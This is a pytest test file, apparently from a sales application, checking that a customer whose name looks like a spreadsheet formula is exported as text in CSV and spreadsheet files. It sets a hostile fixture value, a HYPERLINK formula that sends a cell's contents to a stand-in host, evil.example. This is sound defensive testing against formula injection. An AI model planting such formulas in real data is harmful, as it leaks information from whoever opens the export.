"""A customer named like a formula is exported as text, at once and in the background (issue 10)."""

import pytest

from sales.services import masterdata as services
from tests.exports import exported_csv, exported_sheet

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Click")'

URL = "/sales/customers/?q=C009"


@pytest.fixture
def hostile(sal):
    services.customer_create(company=sal.company, code="C009", name=HYPERLINK, short_name="@SUM(1+1)", owner=sal.rep)
    return sal


@pytest.mark.parametrize("inline_rows", [5000, 0], ids=["at once", "in the background"])
def test_a_customer_named_like_a_formula_is_exported_as_text(hostile, client, settings, inline_rows):
    settings.EXPORT_INLINE_ROWS = inline_rows
    client.force_login(hostile.manager)

    as_csv = exported_csv(client, URL)
    sheet = exported_sheet(client, URL)
    row = sheet[2]

    assert as_csv[1][:3] == ["C009", "'" + HYPERLINK, "'@SUM(1+1)"]
    assert (row[1].value, row[1].data_type) == (HYPERLINK, "s")
    assert (row[2].value, row[2].data_type) == ("@SUM(1+1)", "s")
